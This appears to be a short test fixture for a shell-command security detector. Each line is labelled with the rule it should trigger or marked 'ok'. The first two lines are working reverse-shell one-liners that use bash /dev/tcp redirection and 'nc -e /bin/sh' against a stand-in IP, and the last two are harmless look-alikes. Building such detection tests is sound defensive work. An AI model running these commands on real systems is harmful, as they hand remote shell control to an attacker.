bash -i > /dev/tcp/10.0.0.1/99 0>&1 # expect: bash-reverse-shell # expect: bash-network-redirection # expect: bash-process-command
nc -e /bin/sh 10.0.0.1 99 # expect: bash-reverse-shell # expect: bash-network-command
echo "bash -i > /dev/tcp/10.0.0.1/99" > notes.txt # ok
printf "%s\n" nc -e # ok
